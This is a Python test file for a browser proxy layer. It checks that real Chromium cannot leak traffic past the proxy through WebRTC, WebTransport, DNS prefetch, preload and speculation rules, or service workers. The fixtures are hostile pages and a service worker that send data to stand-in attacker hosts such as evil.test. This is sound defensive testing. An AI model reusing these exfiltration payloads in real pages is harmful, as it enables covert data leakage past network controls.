"""Routes beside the proxy: what a hostile page could use to reach a server without going
through the network layer, each tried in real Chromium started by `launch(proxy=True)`, with
the evidence taken where the traffic would arrive (a UDP socket, a TCP listener, the site's
request log, Chromium's own net log). Each route has a control showing the page really
uses it when the network layer's flags are missing."""

from __future__ import annotations

import asyncio
import json
import socket
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.async_api import Browser

import pagewarden.proxy as proxy_api
from pagewarden import launch
from pagewarden.testing import LocalSite, Response
from tests.heard import refused_url_async
from tests.proxy.conftest import policies

pytestmark = pytest.mark.browser

ONLY_SITE = policies({"domain_allow": ["site.test"]})


@pytest.fixture
def udp() -> Iterator[socket.socket]:
    """A UDP socket on 127.0.0.1 standing for a STUN/TURN/QUIC server the page aims at."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    sock.setblocking(False)
    yield sock
    sock.close()


@pytest.fixture
def tcp_listener() -> Iterator[socket.socket]:
    """A TCP listener on 127.0.0.1 standing for a TURN-over-TCP server."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    sock.setblocking(False)
    yield sock
    sock.close()


def datagrams(sock: socket.socket, wait: float = 0.5) -> int:
    """How many datagrams reached `sock` (waiting `wait` s for stragglers)."""
    deadline = time.monotonic() + wait
    count = 0
    while time.monotonic() < deadline:
        try:
            sock.recvfrom(4096)
            count += 1
        except BlockingIOError:
            time.sleep(0.05)
    return count


def accepted(sock: socket.socket) -> int:
    count = 0
    while True:
        try:
            conn, _ = sock.accept()
        except BlockingIOError:
            return count
        conn.close()
        count += 1


def webrtc_page(udp_port: int, tcp_port: int = 0) -> str:
    servers = [
        {"urls": f"stun:127.0.0.1:{udp_port}"},
        {"urls": f"turn:127.0.0.1:{udp_port}?transport=udp", "username": "u", "credential": "p"},
    ]
    if tcp_port:
        relay = f"turn:127.0.0.1:{tcp_port}?transport=tcp"
        servers.append({"urls": relay, "username": "u", "credential": "p"})
    return f"""<!doctype html><title>rtc</title><script>
window.candidates = [];
const pc = new RTCPeerConnection({{iceServers: {json.dumps(servers)}}});
pc.createDataChannel('leak');
pc.onicecandidate = e => window.candidates.push(e.candidate ? e.candidate.candidate : 'done');
pc.createOffer().then(o => pc.setLocalDescription(o));
</script>"""


def webtransport_page(udp_port: int) -> str:
    return f"""<!doctype html><title>wt</title><script>
window.outcome = 'pending';
try {{
  const wt = new WebTransport('https://127.0.0.1:{udp_port}/leak?secret=4111111111111111');
  wt.ready.then(() => window.outcome = 'ready', e => window.outcome = 'failed: ' + e);
}} catch (e) {{ window.outcome = 'threw: ' + e; }}
</script>"""


async def test_webrtc_sends_no_udp_and_its_tcp_relay_goes_through_the_proxy(
    netsite: LocalSite, udp: socket.socket, tcp_listener: socket.socket
) -> None:
    page_html = webrtc_page(udp.getsockname()[1], tcp_listener.getsockname()[1])
    netsite.route("site.test", "/rtc.html", lambda r: Response(page_html))
    async with launch(proxy=True, host_map={"*.test": netsite.port}, policies=ONLY_SITE) as page:
        await page.goto("http://site.test/rtc.html")
        raw = page.unwrap()
        await raw.wait_for_function("window.candidates.includes('done')", timeout=15_000)
        candidates = await raw.evaluate("window.candidates")
    assert datagrams(udp) == 0
    assert accepted(tcp_listener) == 0  # the relay's CONNECT to 127.0.0.1 was refused
    assert not [c for c in candidates if " udp " in c]


async def test_webtransport_sends_no_udp(udp: socket.socket) -> None:
    # http://localhost is a secure context (WebTransport exists there); the page goes
    # through the proxy like any other (loopback is not bypassed)
    with LocalSite() as site:
        site.route("localhost", "/wt.html", lambda r: Response(webtransport_page(udp.getsockname()[1])))
        async with launch(proxy=True) as page:
            await page.goto(f"http://localhost:{site.port}/wt.html")
            raw = page.unwrap()
            await raw.wait_for_function("window.outcome !== 'pending'", timeout=15_000)
            outcome = await raw.evaluate("window.outcome")
    assert datagrams(udp) == 0
    assert outcome != "ready"


async def test_control_the_udp_pages_do_send_datagrams_without_the_network_layer(
    plain_browser: Browser, udp: socket.socket
) -> None:
    """Without the network layer's flags the same pages reach the UDP socket (so the two
    tests above would fail if the flags stopped working)."""
    with LocalSite() as site:
        site.route("localhost", "/rtc.html", lambda r: Response(webrtc_page(udp.getsockname()[1])))
        site.route("localhost", "/wt.html", lambda r: Response(webtransport_page(udp.getsockname()[1])))
        context = await plain_browser.new_context()
        try:
            page = await context.new_page()
            await page.goto(f"http://localhost:{site.port}/rtc.html")
            await asyncio.sleep(1.0)
            assert datagrams(udp, wait=1.0) > 0
            await page.goto(f"http://localhost:{site.port}/wt.html")
            await asyncio.sleep(1.0)
            assert datagrams(udp, wait=1.0) > 0
        finally:
            await context.close()


HOSTILE_NAMES = """<!doctype html><html><head><title>names</title>
<link rel="dns-prefetch" href="//dnsprefetch-secret.evil.test">
<link rel="preconnect" href="http://preconnect-secret.evil.test">
<link rel="prefetch" href="http://prefetch-secret.evil.test/x">
<link rel="preload" as="image" href="http://preload-secret.evil.test/x.png">
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["http://specprefetch-secret.evil.test/"]}],
 "prerender": [{"source": "list", "urls": ["http://specprerender-secret.evil.test/"]}]}</script>
</head><body><a id="next" href="http://anchor-secret.evil.test/">next</a>
<img src="http://img-secret.evil.test/i.png">
<button id="leave" onclick="location = 'http://nav-secret.evil.test/'">Leave</button></body></html>"""


def net_log(path: Path) -> tuple[list[str], list[str]]:
    """(hosts Chromium asked its resolver for, addresses it opened TCP/UDP sockets to)."""
    text = path.read_text()
    try:
        log = json.loads(text)
    except json.JSONDecodeError:  # a log cut short: close the event list
        log = json.loads(text.rstrip().rstrip(",") + "]}")
    names = {value: key for key, value in log["constants"]["logEventTypes"].items()}
    hosts, sockets = [], []
    for event in log["events"]:
        kind, params = names.get(event["type"], ""), event.get("params") or {}
        if kind == "HOST_RESOLVER_MANAGER_REQUEST" and "host" in params:
            hosts.append(params["host"])
        elif kind in ("TCP_CONNECT_ATTEMPT", "UDP_CONNECT") and "address" in params:
            sockets.append((kind, params["address"]))
    return hosts, [address for kind, address in sockets if kind == "TCP_CONNECT_ATTEMPT"]


async def _names_run(netsite: LocalSite, log_path: Path) -> tuple[list[str], list[str], int]:
    netsite.route("site.test", "/names.html", lambda r: Response(HOSTILE_NAMES))
    async with launch(
        proxy=True, host_map={"*.test": netsite.port}, policies=ONLY_SITE,
        browser_args=(f"--log-net-log={log_path}",),
    ) as page:  # fmt: skip
        await page.goto("http://site.test/names.html")
        await page.unwrap().hover("#next")
        await page.unwrap().click("#leave")  # the page's own script navigates (raw: not judged)
        assert await refused_url_async(page, "http://nav-secret.evil.test/", timeout=40)
        await asyncio.sleep(0.5)
        session_port = page.guard.network.port
    hosts, connects = net_log(log_path)
    return hosts, connects, session_port


async def test_chromium_resolves_no_name_itself(netsite: LocalSite, tmp_path: Path) -> None:
    """Chromium looks up the hosts of preloads, images and navigations in DNS even behind a
    proxy — a channel beside it (``secret.evil.test`` reaches the attacker's name server).
    Behind the network layer every name maps to the proxy: no name leaves, and every TCP
    connection goes to the proxy."""
    hosts, connects, session_port = await _names_run(netsite, tmp_path / "net.json")
    assert hosts, "the net log recorded no resolver request (the test would prove nothing)"
    assert not [h for h in hosts if "secret" in h or "test" in h]
    # the proxy's ports only: the page's go to the session's, Chromium's own to the main one
    ports = {c.rsplit(":", 1)[1] for c in connects}
    assert str(session_port) in ports and len(ports) <= 2
    assert all(c.startswith("127.0.0.1:") for c in connects)
    assert [r for r in netsite.requests if r.host.endswith("evil.test")] == []


async def test_control_without_the_resolver_rules_chromium_looks_names_up(
    netsite: LocalSite, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    original = proxy_api.chromium_proxy_args  # launch() takes the flags from the package

    def without_rules(server):  # the network layer's flags minus the resolver rules
        return tuple(a for a in original(server) if not a.startswith("--host-resolver-rules"))

    monkeypatch.setattr(proxy_api, "chromium_proxy_args", without_rules)
    hosts, _, _ = await _names_run(netsite, tmp_path / "net.json")
    assert [h for h in hosts if "secret" in h]


SERVICE_WORKER = """self.addEventListener('install', e => {
  fetch('http://evil.test/sw-install').catch(() => {});
  fetch('/sw-own').catch(() => {});
  self.skipWaiting();
});
self.addEventListener('activate', e => e.waitUntil(clients.claim()));
self.addEventListener('fetch', e => {
  if (e.request.url.includes('/through')) {  // a navigation the worker fetches itself
    e.respondWith(fetch(e.request));
  } else if (e.request.url.includes('/later')) {
    const headers = {'content-type': 'text/html'};
    e.respondWith(new Response('<title>served by the worker</title>', {headers}));
  }
});"""

REGISTER = """<!doctype html><title>register</title><script>
window.registration = navigator.serviceWorker.register('/sw.js')
  .then(() => 'registered', e => 'failed: ' + e);
</script>"""


async def test_service_workers_run_behind_the_network_layer_and_their_requests_are_judged() -> None:
    """A service worker a page registers runs behind the network layer as in plain Playwright
    (it answers navigations in its scope); its own requests arrive on the session's port of the
    proxy and are judged as the page's: one to the page's host passes, one to a denied host is
    refused (never a ``no_session`` refusal)."""
    with LocalSite() as site:
        site.route("localhost", "/", lambda r: Response(REGISTER))
        site.route("localhost", "/sw.js", lambda r: Response(SERVICE_WORKER, content_type="text/javascript"))
        site.route("localhost", "/sw-own", lambda r: Response("own", content_type="text/plain"))
        site.route("localhost", "/later", lambda r: Response("<title>from the server</title>"))
        site.route("localhost", "/through", lambda r: Response("<title>through the worker</title>"))
        site.route("evil.test", "/sw-install", lambda r: Response("reached", content_type="text/plain"))
        deny = policies({"domain_deny": ["evil.test"]})
        async with launch(proxy=True, host_map={"*.test": site.port}, policies=deny) as page:
            await page.goto(f"http://localhost:{site.port}/")
            assert await page.unwrap().evaluate("window.registration") == "registered"
            await page.unwrap().wait_for_function("!!navigator.serviceWorker.controller", timeout=20_000)
            await page.goto(f"http://localhost:{site.port}/later")
            assert await page.title() == "served by the worker"
            # the worker fetches the agent's navigation itself: no page's token on it, and it
            # is judged as the session's (the site is one the tab reached)
            await page.goto(f"http://localhost:{site.port}/through")
            assert await page.title() == "through the worker"
            refusals = list(page.guard.network.refusals)
        assert site.requests_to("localhost", "/sw.js") and site.requests_to("localhost", "/sw-own")
        assert site.requests_to("localhost", "/through")
        assert site.requests_to("evil.test") == []
        assert [r.url for r in refusals if r.host == "evil.test"] == ["http://evil.test/sw-install"]
        assert [r for r in refusals if r.rule == "no_session" and r.host in ("localhost", "evil.test")] == []


async def test_control_service_worker_answers_without_the_network_layer(plain_browser: Browser) -> None:
    with LocalSite() as site:
        site.route("localhost", "/", lambda r: Response(REGISTER))
        site.route("localhost", "/sw.js", lambda r: Response(SERVICE_WORKER, content_type="text/javascript"))
        site.route("localhost", "/later", lambda r: Response("<title>from the server</title>"))
        context = await plain_browser.new_context()
        try:
            page = await context.new_page()
            await page.goto(f"http://localhost:{site.port}/")
            assert await page.evaluate("window.registration") == "registered"
            await page.wait_for_function("!!navigator.serviceWorker.controller", timeout=10_000)
            await page.goto(f"http://localhost:{site.port}/later")
            assert await page.title() == "served by the worker"
        finally:
            await context.close()


async def test_localhost_by_name_goes_through_the_proxy(netsite: LocalSite) -> None:
    """``localhost`` and other loopback names are not bypassed either (``<-loopback>``)."""
    netsite.route(
        "site.test", "/local.html",
        lambda r: Response(f"<img src='http://localhost:{netsite.port}/x.png'>"
                           f"<img src='http://127.0.0.2:{netsite.port}/y.png'>"),
    )  # fmt: skip
    async with launch(proxy=True, host_map={"*.test": netsite.port}, policies=ONLY_SITE) as page:
        await page.goto("http://site.test/local.html")
        await asyncio.sleep(0.5)
        refused = [r.url for r in page.guard.network.refusals if r.rule != "no_session"]
    assert netsite.requests_to("localhost") == []
    assert f"http://localhost:{netsite.port}/x.png" in refused
    assert f"http://127.0.0.2:{netsite.port}/y.png" in refused
